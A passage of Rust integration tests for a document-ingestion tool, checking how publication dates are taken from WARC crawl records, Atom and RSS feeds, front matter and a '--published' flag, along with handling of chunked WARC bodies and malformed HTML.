    assert!(out.status.success(), "{stderr}");
    assert!(!stderr.contains("no publication date"), "{stderr}");
    let c = Corpus::open_read_only(&db).unwrap();
    let row = |origin: &str| -> (Option<String>, Option<String>) {
        c.conn()
            .query_row("SELECT published, published_source FROM documents WHERE origin LIKE ?1", [format!("%{origin}")], |r| Ok((r.get(0)?, r.get(1)?)))
            .unwrap()
    };
    assert_eq!(row("plain.txt"), (Some("2025-05-01".into()), Some("--published".into())));
    assert_eq!(row("dated.txt"), (Some("2024-03-10".into()), Some("front-matter".into())));
    assert_eq!(count(c.conn(), "SELECT count(*) FROM events WHERE day_source = 'added'"), 0);
    assert_eq!(count(c.conn(), "SELECT count(*) FROM events WHERE day = '2025-05-01'"), 1, "the 057 is on the given day");
    drop(c);

    // Without --published the plain text is undated.
    let db = dir.join("u.db");
    let out = marsad().arg("ingest").arg("--db").arg(&db).arg(&plain).arg(&dated).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert_eq!(stderr.matches("warning: 1 document(s) had no publication date").count(), 1, "{stderr}");
    assert!(stderr.contains("--published"), "{stderr}");
    let c = Corpus::open_read_only(&db).unwrap();
    assert_eq!(count(c.conn(), "SELECT count(*) FROM documents WHERE published IS NULL"), 1);
    assert_eq!(count(c.conn(), "SELECT count(*) FROM events WHERE day_source = 'added'"), 1);
    let stats = query::stats(c.conn()).unwrap();
    assert_eq!(stats.undated_events, 1);
    assert_eq!(stats.days, Some(("2024-03-10".into(), "2024-03-10".into())), "the undated event is not in the day range");
    let tl = query::timeline(c.conn(), &Filter::default(), false).unwrap();
    assert_eq!(tl.iter().map(|b| b.key.as_str()).collect::<Vec<_>>(), vec!["2024-03-10"]);
    assert_eq!(tl.iter().map(|b| b.events).sum::<i64>(), 1);
    // A date range never matches the undated event or document, whatever the ingest day.
    let all = Filter { from: Some("2000-01-01".parse().unwrap()), to: Some("2199-12-31".parse().unwrap()), limit: 50, ..Filter::default() };
    assert_eq!(query::events(c.conn(), &all).unwrap().total, 1);
    assert_eq!(query::documents(c.conn(), &all).unwrap().total, 1);
    assert_eq!(query::events(c.conn(), &Filter { limit: 50, ..Filter::default() }).unwrap().total, 2, "still listed without a range");
}

/// A WARC record whose page carries no date is dated by its WARC-Date (crawl
/// time, an upper bound), and by `--published` when the user gives one.
#[test]
fn warc_pages_without_a_date_take_the_crawl_date() {
    let dir = TempDir::new("warcdate");
    let html = "<html><head><title>Talks</title></head><body><article><p>Egypt accused Libya of abuses against migrants on Monday, officials said in a statement.</p></article></body></html>";
    let http = format!("HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}");
    let warc = format!(
        "WARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:00000000-0000-0000-0000-0000000000a1>\r\nWARC-Date: 2025-03-05T12:00:00Z\r\nWARC-Target-URI: https://cc.example.com/news/talks\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: {}\r\n\r\n{http}\r\n\r\n",
        http.len()
    );
    let f = dir.join("crawl.warc");
    std::fs::write(&f, warc).unwrap();
    let dated = |name: &str, extra: &[&str]| -> (String, String) {
        let db = dir.join(name);
        let out = marsad().arg("ingest").arg("--db").arg(&db).args(extra).arg(&f).output().unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let c = Corpus::open_read_only(&db).unwrap();
        c.conn().query_row("SELECT published, published_source FROM documents", [], |r| Ok((r.get(0)?, r.get(1)?))).unwrap()
    };
    let (p, s) = dated("w.db", &[]);
    assert_eq!((p.as_str(), s.as_str()), ("2025-03-05T12:00:00Z", "warc:WARC-Date"));
    let (p, s) = dated("w2.db", &["--published", "2025-02-01"]);
    assert_eq!((p.as_str(), s.as_str()), ("2025-02-01", "--published"));
}

/// A page with an unclosed `<title>` (the rest of the page is title text under
/// HTML5's rules) is read with the title closed (newuser3 row 11).
#[test]
fn page_with_an_unclosed_title_is_ingested() {
    let dir = TempDir::new("brokenhtml");
    let f = dir.join("broken.html");
    std::fs::write(
        &f,
        "<html><head><title>Minister in Tripoli<script>var x = 1;</script></head>\n<body><div class=\"nav\"><a href=\"/\">Home</a>\n<article><p>Egypt accused Libya of abuses against migrants, officials said.\n<p>Talks will continue next week.\n<!-- never closed\n</body>",
    )
    .unwrap();
    let db = dir.join("b.db");
    let out = marsad().arg("ingest").arg("--db").arg(&db).args(["--published", "2025-05-01"]).arg(&f).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let c = Corpus::open_read_only(&db).unwrap();
    let (title, text): (String, String) =
        c.conn().query_row("SELECT d.title, t.text FROM documents d JOIN doc_texts t ON t.doc_id = d.id", [], |r| Ok((r.get(0)?, r.get(1)?))).unwrap();
    assert_eq!(title, "Minister in Tripoli");
    assert!(text.contains("Egypt accused Libya of abuses against migrants"), "{text}");
    assert!(!text.contains("var x"), "{text}");
}
/// A WARC response kept chunked (as Heritrix and wget keep it) is de-chunked before
/// the page is read (newuser22: `32 Tunisian police … on Mo 32 nday … 0` was stored).
#[test]
fn chunked_warc_bodies_are_dechunked() {
    let dir = TempDir::new("chunked");
    let page = "<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>T</title></head><body><article><p>Tunisian police arrested 40 migrants in Sfax on Monday, according to Human Rights Watch.</p></article></body></html>";
    let mut body = String::new();
    for part in page.as_bytes().chunks(50) {
        body.push_str(&format!("{:x}\r\n{}\r\n", part.len(), std::str::from_utf8(part).unwrap()));
    }
    body.push_str("0\r\n\r\n");
    let record = |id: u8, uri: &str, http: &str| {
        format!(
            "WARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:00000000-0000-0000-0000-0000000000{id:02x}>\r\nWARC-Date: 2025-03-20T10:00:00Z\r\nWARC-Target-URI: {uri}\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: {}\r\n\r\n{http}\r\n\r\n",
            http.len()
        )
    };
    let good = format!("HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nTransfer-Encoding: chunked\r\n\r\n{body}");
    let bad = format!("HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n{page}\r\n0\r\n\r\n");
    let f = dir.join("t.warc");
    std::fs::write(&f, record(1, "https://a.example/chunked", &good) + &record(2, "https://a.example/bad", &bad)).unwrap();
    let db = dir.join("w.db");
    let out = ingest(&db, &[&f]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "the malformed record is reported: {stderr}");
    assert!(stderr.lines().any(|l| l.contains("t.warc#record-2 (https://a.example/bad)") && l.contains("malformed chunked body")), "{stderr}");
    let c = Corpus::open_read_only(&db).unwrap();
    let text: String = c.conn().query_row("SELECT t.text FROM documents d JOIN doc_texts t ON t.doc_id = d.id", [], |r| r.get(0)).unwrap();
    assert_eq!(text, "Tunisian police arrested 40 migrants in Sfax on Monday, according to Human Rights Watch.");
}

/// A feed item's publication day is its local day where it was written, as for an
/// HTML page, and `published_raw` is the text of the feed (newuser22: an Atom
/// `2025-03-20T01:30:00+03:00` was stored as 2025-03-19T22:30:00Z, so «أمس» was
/// 2025-03-18).
#[test]
fn feed_dates_keep_the_local_day_and_the_text() {
    let dir = TempDir::new("feedtz");
    let atom = dir.join("tz.atom");
    std::fs::write(
        &atom,
        r#"<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>AR</title><id>urn:x</id><updated>2025-03-20T00:00:00Z</updated>
<entry><title>اعتقال</title><id>urn:e9</id><link href="https://ar.example.org/e9"/><published>2025-03-20T01:30:00+03:00</published><updated>2025-03-20T01:30:00+03:00</updated>
<content type="html">&lt;p&gt;اعتقلت الشرطة التونسية 40 متظاهرا في العاصمة تونس أمس، وفقا لمنظمة هيومن رايتس ووتش.&lt;/p&gt;</content></entry>
</feed>"#,
    )
    .unwrap();
    let rss = dir.join("f.rss");
    std::fs::write(
        &rss,
        r#"<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>W</title><link>https://w.example</link><description>d</description>
<item><title>t</title><link>https://w.example/1</link><pubDate>Thu, 20 Mar 2025 00:30:00 +0300</pubDate>
<description>Tunisian police arrested 40 protesters in Tunis yesterday, according to Human Rights Watch.</description></item></channel></rss>"#,
    )
    .unwrap();
    let db = dir.join("tz.db");
    let out = ingest(&db, &[&atom, &rss]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let c = Corpus::open_read_only(&db).unwrap();
    let doc = |origin: &str| -> (String, String, String) {
        c.conn()
            .query_row("SELECT published, published_raw, day_start FROM documents WHERE origin LIKE ?1", [format!("%{origin}")], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
            .unwrap()
    };
    assert_eq!(doc("tz.atom#item-1"), ("2025-03-20T01:30:00+03:00".into(), "2025-03-20T01:30:00+03:00".into(), "2025-03-20".into()));
    assert_eq!(doc("f.rss#item-1"), ("2025-03-20T00:30:00+03:00".into(), "Thu, 20 Mar 2025 00:30:00 +0300".into(), "2025-03-20".into()));
    // "yesterday" / «أمس» is the day before the local publication day
    let days: Vec<String> = c.conn().prepare("SELECT DISTINCT day FROM events").unwrap().query_map([], |r| r.get(0)).unwrap().map(Result::unwrap).collect();
    assert!(!days.is_empty(), "no event coded");
    assert!(days.iter().all(|d| d == "2025-03-19"), "{days:?}");
}

/// Front-matter problems are warnings naming the file and the problem; the
/// document is kept (newuser22: `published: 2025-02-30` was dropped silently, an
/// unclosed block was stored with the title `---`).
#[test]
fn front_matter_problems_are_warned_about_by_file() {
    let dir = TempDir::new("frontmatter");
    let bad_date = dir.join("baddate.txt");
    std::fs::write(&bad_date, "---\ntitle: x\npublished: 2025-02-30\n---\nPolice arrested 40 protesters in Tunis on Monday, officials said.\n").unwrap();
    let unclosed = dir.join("unclosed.txt");
    std::fs::write(&unclosed, "---\ntitle: unclosed front matter\nPolice arrested 40 protesters in Sfax.\n").unwrap();
    let db = dir.join("f.db");
    let out = ingest(&db, &[&bad_date, &unclosed]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "warnings do not fail the run: {stderr}");
    let line = |name: &str| stderr.lines().find(|l| l.contains("warning:") && l.contains(name)).unwrap_or_else(|| panic!("no warning for {name}: {stderr}")).to_string();
    assert!(line("baddate.txt").contains("`published: 2025-02-30` is not a date"), "{stderr}");
    assert!(line("unclosed.txt").contains("front matter is not closed"), "{stderr}");
    let c = Corpus::open_read_only(&db).unwrap();
    let docs: Vec<(String, Option<String>, String)> = c
        .conn()
        .prepare("SELECT d.title, d.published, t.text FROM documents d JOIN doc_texts t ON t.doc_id = d.id ORDER BY d.id")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(docs.len(), 2, "both documents are kept");
    assert_eq!((docs[0].0.as_str(), docs[0].1.as_deref()), ("x", None));
    assert_eq!(docs[1].0, "title: unclosed front matter", "not `---`");
    assert!(docs[1].2.starts_with("---\ntitle: unclosed front matter\nPolice arrested"), "nothing of the text is lost: {}", docs[1].2);
}
